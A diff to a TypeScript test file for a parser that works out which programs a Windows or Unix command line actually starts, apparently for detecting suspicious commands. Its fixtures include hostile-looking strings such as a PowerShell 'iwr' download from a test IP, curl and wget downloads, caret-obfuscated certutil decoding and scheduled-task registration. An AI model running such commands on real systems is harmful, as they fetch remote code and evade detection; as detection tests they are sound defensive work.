@@ -1,4 +1,4 @@
-import { commandSegments, isShellBuiltin, programRuns, withoutCarets } from './command-program';
+import { isShellBuiltin, programRuns } from './command-program';
 
 const images = (commandLine: string, windows = true) => programRuns(commandLine, windows).map((run) => [run.image, run.commandLine]);
 
@@ -40,29 +40,15 @@ describe('programRuns: the programs a quoted command line really starts', () => 
     expect(images('curl.exe -o a http://x', false)[0]?.[0]).toBe('curl');
   });
 
-  it('reads a line the publisher wrapped before a URL or a switch, or after -Command, as one command', () => {
-    expect(commandSegments('curl -o a.msi\nhttp://203.0.113.5/a && \nexplorer /select,a.msi')).toEqual([
-      'curl -o a.msi http://203.0.113.5/a',
-      'explorer /select,a.msi',
-    ]);
-    expect(commandSegments('wget\n  -q http://203.0.113.5/a')).toEqual(['wget   -q http://203.0.113.5/a']);
-    expect(commandSegments('powershell.exe -Command \n"iwr http://203.0.113.5/a"')).toEqual([
-      'powershell.exe -Command  "iwr http://203.0.113.5/a"',
-    ]);
-    expect(commandSegments('whoami /all\nipconfig /all')).toEqual(['whoami /all', 'ipconfig /all']);
-  });
-
   it('keeps a pipe inside parentheses or a script block with the code around it', () => {
-    expect(commandSegments('Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String) | Out-Null')).toEqual([
-      'Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String)',
-      'Out-Null',
+    expect(images('Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String) | Out-Null')).toEqual([
+      ['powershell.exe', 'Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String)'],
+      ['powershell.exe', 'Out-Null'],
     ]);
-    expect(commandSegments('Get-Process | Where-Object { $_.Path | Select-String Temp }')).toEqual([
-      'Get-Process',
-      'Where-Object { $_.Path | Select-String Temp }',
+    expect(images('Get-Process | Where-Object { $_.Path | Select-String Temp }')).toEqual([
+      ['powershell.exe', 'Get-Process'],
+      ['powershell.exe', 'Where-Object { $_.Path | Select-String Temp }'],
     ]);
-    // Half a bracket (a line copied with its prose) cannot mark nesting: the line splits as before.
-    expect(commandSegments('a ) b | c')).toEqual(['a ) b', 'c']);
     expect(programRuns('Register-ScheduledTask -Xml (Get-Content "C:\\Temp\\t.xml" | Out-String) -TaskName Sync', true)).toEqual([
       {
         image: 'powershell.exe',
@@ -86,11 +72,11 @@ describe('programRuns: the programs a quoted command line really starts', () => 
       ['powershell.exe', 'powershell -nop -c iwr http://203.0.113.5/a'],
     ]);
     expect(images('echo x ^| c^e^r^t^u^t^i^l -decode a b')).toEqual([]);
-    expect(withoutCarets('a^^b "c^d" ^&')).toBe('a^b "c^d" &');
+    expect(images('@pushd %TEMP% & @c^e^r^t^u^t^i^l -decode a^^b "c^d"')).toEqual([['certutil.exe', 'certutil -decode a^b "c^d"']]);
   });
 
   it('splits at shell operators outside quotes only', () => {
-    expect(commandSegments('a "x && y" && b | c; d & e')).toEqual(['a "x && y"', 'b', 'c', 'd', 'e']);
+    expect(images('a "x && y" && b | c; d & e', false).map(([, line]) => line)).toEqual(['a "x && y"', 'b', 'c', 'd', 'e']);
     expect(isShellBuiltin('FOR')).toBe(true);
     expect(isShellBuiltin('C:\\Windows\\System32\\certutil.exe')).toBe(false);
   });
